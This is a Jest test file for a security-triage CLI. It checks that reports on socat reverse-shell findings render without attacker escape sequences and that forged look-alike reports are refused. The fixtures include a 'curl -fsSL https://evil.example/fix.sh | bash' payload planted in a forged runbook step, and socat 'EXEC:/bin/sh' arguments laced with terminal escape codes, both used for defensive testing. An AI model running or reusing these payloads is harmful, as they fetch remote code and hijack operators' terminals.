/**
 * `show` as a person reads it: piped (plain text, no escape sequence at
 * all) and on a pseudo-terminal (colour, and still nothing but our own SGR
 * codes), by finding name (read from the enrichment finding) and by file.
 * Attacker-controlled text carrying escape sequences must not reach either.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { handleDelivery } from '../../lib/handler.js';
import { ENRICHMENT_CATEGORY, enrichmentFindingName } from '../../lib/scc/names.js';
import { reportFromFinding, STORED_REPORT_KEY } from '../../lib/scc/stored-report.js';
import { createInstance } from '../../lib/wiring.js';
import { notificationFixture, pubsubBody } from '../support/fixtures.js';
import { CTD_SOURCE, ORG, OWN_SOURCE, plainProperties } from '../support/scc-scenario.js';
import { CLUSTER_RESOURCE } from '../support/world.js';
import { seedAdmin, seedAttack, startWorld, type Scenario, type World } from '../support/world.js';
import { baseEnv, exit, HAS_SCRIPT, runCli, runUnderPty, seedSocat, withoutSgr } from './support.js';

let world: World;
let attack: Scenario;
let admin: Scenario;
let env: Record<string, string>;
const dir = mkdtempSync(join(tmpdir(), 'cli-show-'));
const ESC = '\u001b';

// Escape sequences an attacker can put into a pod name or socat's arguments: a title change, a screen clear, a colour, a bell, RTL override.
const HOSTILE_POD = `evil${ESC}]0;pwned${'\u0007'}-pod`;
const HOSTILE_ARG = `EXEC:/bin/sh${ESC}[2J${ESC}[31m\u202egnp.exe`;

function makeHostile(finding: Record<string, any>): void {
  finding.sourceProperties.Pod_Name = HOSTILE_POD;
  finding.sourceProperties.Container_Name = `c${ESC}[8m`;
  finding.processes[1].args = ['socat', `TCP:203.0.113.9:443${ESC}[1A`, HOSTILE_ARG];
}

function hostileNotification(name: string | null, eventTime: Date): Record<string, any> {
  const n = structuredClone(notificationFixture('socat-v2'));
  if (name) n.finding.name = name;
  n.finding.eventTime = eventTime.toISOString();
  makeHostile(n.finding);
  return n;
}

async function triageInProcess(notification: Record<string, any>): Promise<void> {
  const instance = createInstance(world.env, { logDestination: { write: () => {} } });
  const result = await handleDelivery(pubsubBody(notification), instance);
  expect(result.outcome).toBe('triaged');
}

beforeAll(async () => {
  world = await startWorld();
  const now = Date.now();
  attack = seedAttack(world, new Date(now - 120_000));
  admin = seedAdmin(world, new Date(now - 60_000));
  env = baseEnv(world.env);
});
afterAll(async () => {
  await world.stop();
});

function sectionOrder(text: string, headings: string[]): number[] {
  return headings.map((h) => text.indexOf(`\n${h}\n`));
}

describe('show FINDING_NAME before the finding was triaged', () => {
  it('analyzes the finding offline and says so', async () => {
    const r = await runCli(['show', admin.findingName], { env });
    expect(r.stderr).toBe('');
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.stdout).toMatch(/note: no enrichment finding: not triaged yet, so this is an offline analysis/);
    expect(r.stdout).toContain('reverse shell connecting out to tcp 10.128.0.15:9001');
    expect(r.stdout).not.toContain(ESC);
  });
});

describe('show FINDING_NAME of a triaged finding', () => {
  beforeAll(async () => {
    await triageInProcess(attack.notification);
  });

  it('renders the enrichment finding: verdict first, then C2, attribution, related findings, gaps, runbook', async () => {
    const r = await runCli(['show', attack.findingName], { env });
    expect(r.stderr).toBe('');
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.stdout).not.toMatch(/offline analysis/);
    const order = sectionOrder(r.stdout, ['Verdict', 'C2', 'Attribution', 'Related findings']);
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(r.stdout).toMatch(/\nVerdict\n  LIKELY MALICIOUS  score \d+\n/);
    expect(r.stdout).toContain('reverse shell connecting out to tcp 203.0.113.77:4444 running /bin/bash with a pty');
    // Gathered context only the function could know: the related finding and the privileged pod.
    expect(r.stdout).toContain('Execution: Added Binary Executed');
    expect(r.stdout).toContain('privileged container checkout');
    expect(r.stdout).toContain('$ gcloud container clusters get-credentials shop-prod --region us-central1 --project shop-prod-4711');
    expect(r.stdout).not.toContain(ESC);
  });

  it('shows the same report when given the enrichment finding itself', async () => {
    const viaOriginal = await runCli(['show', attack.findingName, '--json'], { env });
    const viaEnrichment = await runCli(['show', enrichmentFindingName(OWN_SOURCE, attack.findingName), '--json'], { env });
    expect(exit(viaEnrichment)).toMatchObject({ code: 0 });
    const a = JSON.parse(viaOriginal.stdout);
    const b = JSON.parse(viaEnrichment.stdout);
    expect(a).toMatchObject({ viewVersion: 1, source: 'enrichment_finding', verdict: { level: 'likely_malicious' }, c2: { host: '203.0.113.77', port: 4444 } });
    expect(b.verdict).toEqual(a.verdict);
    expect(b.related).toEqual(a.related);
    expect(a.related.sameContainer).toHaveLength(1);
  });

  (HAS_SCRIPT ? it : it.skip)('colours the verdict on a terminal, and emits no escape sequence but its own colour codes', async () => {
    const r = await runUnderPty(['show', attack.findingName], env, dir);
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.output).toContain(`${ESC}[31m`);
    expect(r.output).toContain(`${ESC}[1m`);
    expect(withoutSgr(r.output)).not.toContain(ESC);
    expect(withoutSgr(r.output)).toContain('LIKELY MALICIOUS');
  });

  (HAS_SCRIPT ? it : it.skip)('honours NO_COLOR and --no-color on a terminal', async () => {
    const noColor = await runUnderPty(['show', attack.findingName], { ...env, NO_COLOR: '1' }, dir);
    const flag = await runUnderPty(['show', attack.findingName, '--no-color'], env, dir);
    for (const r of [noColor, flag]) {
      expect(exit(r)).toMatchObject({ code: 0 });
      expect(r.output).toContain('LIKELY MALICIOUS');
      expect(r.output).not.toContain(ESC);
    }
  });

  it('exits 2 naming a finding that does not exist', async () => {
    const r = await runCli(['show', 'organizations/123456789012/sources/9876543210123456789/findings/ffffffffffffffffffffffffffffffff'], { env });
    expect(exit(r)).toMatchObject({ code: 2 });
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^scc-socat-triage: finding .*ffff not found/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });
});

describe('show trusts only our own reports (issue 13 item 6)', () => {
  // A source anyone with SCC admin on the organization can create, and findings in it of any category.
  const FOREIGN_SOURCE = `organizations/${ORG}/sources/1313131313131313131`;
  const PAYLOAD = 'curl -fsSL https://evil.example/fix.sh | bash';
  let ours: Record<string, unknown>;

  beforeAll(async () => {
    world.scc.addSource({ name: FOREIGN_SOURCE, displayName: 'Socat Triage' });
    await triageInProcess(attack.notification);
    ours = plainProperties(world.scc.getFinding(enrichmentFindingName(OWN_SOURCE, attack.findingName)));
    expect(ours.I01_Original_Finding).toBe(attack.findingName);
  });

  /** The structured report forged the same way as the console text: about `about`, benign, `curl … | bash` first. */
  function forgedStored(about: string): Record<string, any> {
    const z = ours[STORED_REPORT_KEY] as Record<string, any>;
    const [first, ...steps] = z.runbook.steps as Array<Record<string, unknown>>;
    return { ...z, finding: { ...z.finding, name: about }, verdict: { ...z.verdict, level: 'likely_benign_admin', score: -40 }, runbook: { steps: [{ ...first, command: PAYLOAD }, ...steps] } };
  }

  /** Our real report, copied where someone else put it: benign verdict, and its first runbook step replaced by `curl … | bash`. */
  function forge(name: string, about: string, resourceName = CLUSTER_RESOURCE): string {
    const runbookKey = Object.keys(ours).find((k) => /^F01_/.test(k))!;
    world.scc.addFinding(name, {
      category: ENRICHMENT_CATEGORY,
      state: 'ACTIVE',
      resourceName,
      eventTime: new Date(Date.now() - 10_000),
      sourceProperties: { ...ours, A1_Verdict: 'LIKELY BENIGN (admin activity)', A2_Score: -40, I01_Original_Finding: about, [runbookKey]: PAYLOAD, Command_Exec: PAYLOAD, [STORED_REPORT_KEY]: forgedStored(about) },
    });
    return name;
  }

  const ctdName = (id: string) => `${CTD_SOURCE}/locations/global/findings/${id}`;

  function markedOriginal(id: string, mark: string): string {
    return seedSocat(world, { id, eventTime: new Date(Date.now() - 60_000), marks: { socat_triage_report: mark, socat_triage_verdict: 'likely_benign_admin' } });
  }

  async function expectRefused(args: string[], why: RegExp): Promise<void> {
    for (const extra of [[], ['--json']]) {
      const r = await runCli([...args, ...extra], { env });
      expect(exit(r)).toMatchObject({ code: 2 });
      expect(r.stdout).toBe('');
      expect(r.stderr).not.toContain('curl');
      expect(r.stderr).toMatch(why);
      expect(r.stderr).toMatch(/triage .* --dry-run/);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    }
  }

  it('does not follow a mark to a report in another source, however well it mimics ours', async () => {
    const forged = forge(`${FOREIGN_SOURCE}/locations/global/findings/f13f13f13f13f13f13f13f13f13f13f1`, ctdName('a13a13a13a13a13a13a13a13a13a13a1'));
    const original = markedOriginal('a13a13a13a13a13a13a13a13a13a13a1', forged);
    expect(world.scc.getMarks(original)?.socat_triage_report).toBe(forged);
    await expectRefused(['show', original], /not in our source organizations\/123456789012\/sources\/4242424242424242424 \(SCC_SOURCE_NAME\)/);
  });

  it('does not show a look-alike report asked for by its own name', async () => {
    const forged = forge(`${FOREIGN_SOURCE}/locations/global/findings/f13f13f13f13f13f13f13f13f13f13f2`, attack.findingName);
    await expectRefused(['show', forged], /not in our source/);
  });

  it('does not follow a mark to a report of our source about another finding, or about another resource', async () => {
    const aboutOther = forge(`${OWN_SOURCE}/locations/global/findings/0f13f13f13f13f13f13f13f13f13f13f`, attack.findingName);
    const original = markedOriginal('a13a13a13a13a13a13a13a13a13a13a2', aboutOther);
    await expectRefused(['show', original], /is a report about .*, not about /);

    const otherResource = forge(`${OWN_SOURCE}/locations/global/findings/1f13f13f13f13f13f13f13f13f13f13f`, ctdName('a13a13a13a13a13a13a13a13a13a13a3'), '//container.googleapis.com/projects/p/locations/l/clusters/elsewhere');
    const original2 = markedOriginal('a13a13a13a13a13a13a13a13a13a13a3', otherResource);
    await expectRefused(['show', original2], /is about the resource .*elsewhere, not /);
  });

  it('says so when the mark names no report at all', async () => {
    await expectRefused(['show', markedOriginal('a13a13a13a13a13a13a13a13a13a13a4', 'https://evil.example/report')], /the mark is not a finding name/);
    await expectRefused(['show', markedOriginal('a13a13a13a13a13a13a13a13a13a13a5', `${OWN_SOURCE}/locations/global/findings/deadbeef`)], /does not exist/);
  });

  it('follows no mark without SCC_SOURCE_NAME, and reads no report by name either', async () => {
    const { SCC_SOURCE_NAME: _own, ...withoutSource } = env;
    for (const name of [attack.findingName, enrichmentFindingName(OWN_SOURCE, attack.findingName)]) {
      const r = await runCli(['show', name], { env: withoutSource });
      expect(exit(r)).toMatchObject({ code: 2 });
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/SCC_SOURCE_NAME is not set/);
    }
  });

  it('still shows our own report through the mark the write-back set', async () => {
    const r = await runCli(['show', attack.findingName, '--json'], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    const view = JSON.parse(r.stdout);
    expect(view).toMatchObject({ source: 'enrichment_finding', verdict: { level: 'likely_malicious' } });
    expect(JSON.stringify(view)).not.toContain('evil.example');
  });
});

describe('show reads the structured report (issue 15 item 7)', () => {
  let ours: Record<string, any>;
  let n = 0;

  beforeAll(async () => {
    await triageInProcess(attack.notification);
    ours = plainProperties(world.scc.getFinding(enrichmentFindingName(OWN_SOURCE, attack.findingName))) as Record<string, any>;
    expect(ours[STORED_REPORT_KEY]).toMatchObject({ schemaVersion: 1, finding: { name: attack.findingName } });
  });

  /** A fresh original of ours, with an enrichment finding at our derived name holding `props(originalName)`. */
  function seedReport(props: (original: string) => Record<string, unknown>): string {
    const eventTime = new Date(Date.now() - 60_000);
    const original = seedSocat(world, { id: `c15c15c15c15c15c15c15c15c15c${String(++n).padStart(3, '0')}`, eventTime });
    world.scc.addFinding(enrichmentFindingName(OWN_SOURCE, original), { category: ENRICHMENT_CATEGORY, state: 'ACTIVE', resourceName: CLUSTER_RESOURCE, eventTime, sourceProperties: props(original) });
    return original;
  }

  /** Our real report, re-addressed to `original`, with Z_Report replaced by `z` (undefined: left out). */
  function props(original: string, z: unknown): Record<string, unknown> {
    const { [STORED_REPORT_KEY]: _z, ...rest } = ours;
    return { ...rest, I01_Original_Finding: original, ...(z === undefined ? {} : { [STORED_REPORT_KEY]: z }) };
  }
  const readdressed = (original: string) => ({ ...ours[STORED_REPORT_KEY], finding: { ...ours[STORED_REPORT_KEY].finding, name: original } });

  async function showJson(name: string): Promise<Record<string, any>> {
    const r = await runCli(['show', name, '--json'], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.stdout).not.toContain(ESC);
    return JSON.parse(r.stdout);
  }

  it('builds the view of a report the current triage wrote from its Z_Report, step titles and all', async () => {
    const view = await showJson(attack.findingName);
    const stored = reportFromFinding(world.scc.getFinding(enrichmentFindingName(OWN_SOURCE, attack.findingName)))!;
    expect(view.source).toBe('enrichment_finding');
    expect(view.notes.join('\n')).not.toMatch(/console text/);
    // Titles exist only in the structured report: the console keys carry step ids ("Get credentials").
    expect(view.runbook.map((s: { title: string }) => s.title)).toEqual(stored.runbook.steps.map((s) => s.title));
    expect(view.runbook[0].title).toBe('Get credentials for the cluster');
    expect(view.c2).toMatchObject({ host: stored.c2.host, port: stored.c2.port, scope: stored.c2.scope });
    expect(view.verdictMark).toBe('likely_malicious');
    expect(view.finding).toMatchObject({ name: attack.findingName, state: 'ACTIVE' });
  });

  it('still shows a report written before Z_Report existed, from its console text, and says so', async () => {
    const original = seedReport((o) => props(o, undefined));
    const view = await showJson(original);
    expect(view).toMatchObject({ source: 'enrichment_finding', verdict: { level: 'likely_malicious' }, c2: { host: '203.0.113.77', port: 4444 } });
    expect(view.runbook[0].title).toBe('Get credentials');
    expect(view.notes.join('\n')).toMatch(/written before the structured Z_Report property existed: the view is read back from its console text/);
    // The human form says it too.
    const text = await runCli(['show', original], { env });
    expect(text.stdout).toMatch(/note: this report was written before the structured Z_Report property existed/);
  });

  it.each([
    ['a later schemaVersion', (z: Record<string, any>) => ({ ...z, schemaVersion: 2 }), /Z_Report\.schemaVersion is 2; this release reads schemaVersion 1/],
    ['a port of the wrong type', (z: Record<string, any>) => ({ ...z, c2: { ...z.c2, port: 'http' } }), /Z_Report\.c2\.port: /],
    ['a JSON string', (z: Record<string, any>) => JSON.stringify(z), /Z_Report is a string, not a struct/],
    ['a huge list', (z: Record<string, any>) => ({ ...z, gaps: Array.from({ length: 60_000 }, () => 0) }), /Z_Report has more than 50000 values/],
    // The key's escape sequence is cleaned out of the note like any text shown.
    ['a hostile key', (z: Record<string, any>) => ({ ...z, pod: { ...z.pod, labels: { [`x${ESC}[2Jy`]: 7 } } }), /Z_Report\.pod\.labels\.xy: .*expected string/],
  ])('falls back to the console text for a tampered Z_Report (%s), naming what is wrong', async (_label, tamper, why) => {
    const original = seedReport((o) => props(o, tamper(readdressed(o))));
    const view = await showJson(original);
    expect(view).toMatchObject({ source: 'enrichment_finding', verdict: { level: 'likely_malicious' } });
    const note = view.notes.find((x: string) => x.startsWith('the structured report could not be read'));
    expect(note).toMatch(why);
    expect(note).toMatch(/the view is read back from the console text instead$/);
  });

  it('refuses a report whose Z_Report is about another finding than its console text says', async () => {
    const original = seedReport((o) => props(o, readdressed(attack.findingName)));
    const r = await runCli(['show', original], { env });
    expect(exit(r)).toMatchObject({ code: 2 });
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(new RegExp(`is a report about ${attack.findingName.replace(/[/.]/g, '\\$&')}, not about `));
  });
});

describe('attacker-controlled text', () => {
  it('never reaches the terminal raw, piped or from the enrichment finding', async () => {
    const eventTime = new Date(Date.now() - 30_000);
    const name = seedSocat(world, { id: 'e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5', eventTime, edit: makeHostile });
    const file = join(dir, 'hostile.json');
    writeFileSync(file, JSON.stringify(hostileNotification(name, eventTime)));
    const offline = await runCli(['show', file], { env });
    await triageInProcess(hostileNotification(name, eventTime));
    const stored = await runCli(['show', name], { env });
    expect(stored.stdout).not.toMatch(/offline analysis/);
    for (const r of [offline, stored]) {
      expect(exit(r)).toMatchObject({ code: 0 });
      expect(r.stdout).toContain('evil');
      for (const bad of [ESC, '\u0007', '\u202e', '\u009b']) expect(r.stdout).not.toContain(bad);
    }
  });

  (HAS_SCRIPT ? it : it.skip)('leaves only our own colour codes on a terminal', async () => {
    const file = join(dir, 'hostile-pty.json');
    writeFileSync(file, JSON.stringify(hostileNotification(null, new Date(Date.now() - 30_000))));
    const r = await runUnderPty(['show', file], env, dir);
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.output).toContain('evil');
    expect(withoutSgr(r.output)).not.toContain(ESC);
    expect(r.output).not.toContain('\u0007');
    expect(r.output).not.toContain('\u202e');
  });
});

describe('show FILE', () => {
  it('renders a report with a verdict and a runbook, verdict first and runbook commands exact', async () => {
    const report = JSON.parse((await runCli(['triage', attack.findingName, '--dry-run', '--json'], { env })).stdout).report;
    report.verdict = { level: 'suspicious', score: 42, reasons: [{ signal: 'public_c2', weight: 30, detail: 'connects to a public address' }, { signal: 'x', weight: 12, detail: 'second reason' }], unavailable: [] };
    report.runbook = { steps: [{ id: 'isolate', title: 'Isolate the pod', command: "kubectl label pod --namespace=shop checkout-7d9fb6c5d4-x2lqp quarantine=true", note: 'labels it for the deny-all policy', disruptive: true }] };
    const file = join(dir, 'report.json');
    writeFileSync(file, JSON.stringify(report));
    const r = await runCli(['show', file], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    const order = sectionOrder(r.stdout, ['Verdict', 'C2', 'Attribution', 'Related findings', 'Runbook']);
    expect(order.every((i) => i > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    expect(r.stdout).toMatch(/\nVerdict\n  SUSPICIOUS  score 42\n  \+30 connects to a public address\n  \+12 second reason\n/);
    expect(r.stdout).toContain('1. Isolate the pod [changes the cluster]');
    expect(r.stdout).toContain('$ kubectl label pod --namespace=shop checkout-7d9fb6c5d4-x2lqp quarantine=true');
  });

  it('renders a report without verdict or runbook gracefully', async () => {
    const report = JSON.parse((await runCli(['analyze', '-'], { env, input: JSON.stringify(attack.notification) })).stdout);
    delete report.verdict;
    delete report.runbook;
    const file = join(dir, 'bare-report.json');
    writeFileSync(file, JSON.stringify(report));
    const r = await runCli(['show', file], { env });
    expect(r.stderr).toBe('');
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(r.stdout).toContain('\nVerdict\n  no verdict in this report\n');
    expect(r.stdout).not.toContain('\nRunbook\n');
    // Without a runbook the Step 5 commands are listed on their own.
    expect(r.stdout).toContain('\nCommands\n');
  });

  it('reads the result of triage --json, and prints the view as JSON with --json', async () => {
    const triaged = await runCli(['triage', attack.findingName, '--dry-run', '--json'], { env });
    const file = join(dir, 'triage-result.json');
    writeFileSync(file, triaged.stdout);
    const r = await runCli(['show', file, '--json'], { env });
    expect(exit(r)).toMatchObject({ code: 0 });
    expect(JSON.parse(r.stdout)).toMatchObject({ source: 'report', status: 'triaged', c2: { role: 'reverse', host: '203.0.113.77' }, finding: { name: attack.findingName } });
  });

  it('exits 2 with one line for a file that is not JSON', async () => {
    const file = join(dir, 'garbage.json');
    writeFileSync(file, 'not json');
    const r = await runCli(['show', file], { env });
    expect(exit(r)).toMatchObject({ code: 2 });
    expect(r.stderr).toMatch(/input is not valid JSON/);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
  });
});
